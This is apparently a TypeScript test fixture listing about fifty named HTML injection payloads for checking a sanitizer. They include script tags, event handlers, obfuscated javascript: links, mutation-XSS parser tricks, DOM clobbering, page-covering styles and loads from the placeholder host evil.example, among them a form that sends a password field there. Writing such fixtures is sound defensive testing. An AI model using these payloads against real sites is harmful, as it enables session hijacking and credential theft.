/** Each sets this on the window if it runs. */
const RUN = 'window.harmed=1'
/** Each tells this host if it loads anything. */
const HOST = 'https://evil.example'

/** Known attacks by HTML: name, HTML. In each, the word 好 is honest text, or there is none. */
export const attacks: readonly (readonly [name: string, html: string])[] = [
  ['a script', `<p>好</p><script>${RUN}</script>`],
  ['a script of another host', `<script src="${HOST}/x.js"></script>`],
  ['a script in vector graphics', `<svg><script>${RUN}</script></svg>`],
  ['a handler of an element that fails', `<img src=x onerror="${RUN}">`],
  ['a handler with a slash', `<img/src=x/onerror=${RUN}>`],
  ['a handler of vector graphics', `<svg onload="${RUN}"></svg>`],
  ['a handler of an animation', `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`],
  ['a handler of the focus', `<p tabindex=1 autofocus onfocus="${RUN}">好</p>`],
  ['a handler of details', `<details open ontoggle="${RUN}"><summary>好</summary></details>`],
  ['a handler of a style', `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">好</p>`],
  ['a handler of the pointer', `<p onpointerrawupdate="${RUN}" onmouseover="${RUN}">好</p>`],
  ['a link to a script', `<a href="javascript:${RUN}">好</a>`],
  ['a link with entities', `<a href="&#106;&#97;vascript&colon;${RUN}">好</a>`],
  ['a link with tabs', `<a href="java&Tab;scr&NewLine;ipt:${RUN}">好</a>`],
  ['a link with control characters', `<a href="\u0001javascript:${RUN}">好</a>`],
  ['a link to data', `<a href="data:text/html,<script>${RUN}</script>">好</a>`],
  ['a link of vector graphics', `<svg><a xlink:href="javascript:${RUN}"><text y=20>好</text></a></svg>`],
  ['a link of formulas', `<math href="javascript:${RUN}"><mtext>好</mtext></math>`],
  ['a link into the console', '<a href="#/setting/userManagement">好</a><a href="../api/logout">好</a>'],
  ['a frame', `<iframe src="${HOST}"></iframe>`],
  ['a frame with its content', `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`],
  ['an object', `<object data="data:text/html,<script>${RUN}</script>"></object>`],
  ['an embedded program', `<embed src="${HOST}/x.swf" allowscriptaccess=always>`],
  ['a base', `<base href="${HOST}/"><a href="x">好</a><img src="x.png">`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${HOST}">`],
  ['a style sheet', `<link rel="stylesheet" href="${HOST}/x.css"><style>@import "${HOST}/y.css";</style>`],
  ['a style sheet that hides', '<style>body{display:none!important}</style><p>好</p>'],
  ['a style that covers', '<div style="position:fixed;inset:0;z-index:99999;background:#fff">好</div>'],
  ['a style that loads', `<p style="background:url(${HOST}/p.png)">好</p>`],
  ['classes of the console that cover', '<div class="tray-overlay document-full modal fixed inset-0">好</div>'],
  ['a background', `<table background="${HOST}/p.png"><tr><td background="${HOST}/q.png">好</td></tr></table>`],
  [
    'a remote picture',
    `<img src="${HOST}/p.gif" srcset="${HOST}/q.gif 2x" alt="好"><input type=image src="${HOST}/r.gif">`,
  ],
  [
    'media',
    `<video autoplay poster="${HOST}/p.png" src="${HOST}/v.mp4"></video><audio autoplay src="${HOST}/a.mp3"></audio>`,
  ],
  [
    'a form',
    `<form action="${HOST}"><input name=password autofocus><button formaction="javascript:${RUN}">好</button></form>`,
  ],
  [
    'a form that clobbers',
    '<form id="body"><input name="attributes"><input name="childNodes"></form><img name="getElementById">',
  ],
  ['ids that clobber', '<a id="location" name="location" href="https://evil.example/">好</a><p id="root">好</p>'],
  ['a template', `<template><img src=x onerror="${RUN}"></template>`],
  ['a shadow tree', `<div><template shadowrootmode="open"><img src=x onerror="${RUN}"></template>好</div>`],
  ['no script', `<noscript><p title="</noscript><img src=x onerror=${RUN}>">好</p></noscript>`],
  [
    'text that ends',
    `<textarea></textarea><img src=x onerror=${RUN}></textarea><title></title><img src=x onerror=${RUN}>`,
  ],
  ['a comment that ends', `<!--><img src=x onerror=${RUN}>--><!--[if IE]><script>${RUN}</script><![endif]-->`],
  [
    'a mutation by formulas',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form>`,
  ],
  ['a mutation by vector graphics', `<svg></p><style><a title="</style><img src=x onerror=${RUN}>"></svg>`],
  [
    'a mutation by nesting',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ],
  [
    'names of the editor with other values',
    `<img data-file="x&quot; onerror=&quot;${RUN}" alt="好"><p data-style="gov fixed" data-align="url(${HOST})">好</p>`,
  ],
  [
    'a slice of the editor',
    `<p data-pm-slice='0 0 ["paragraph",{"onclick":"${RUN}","style":"position:fixed"}]'>好</p>`,
  ],
]
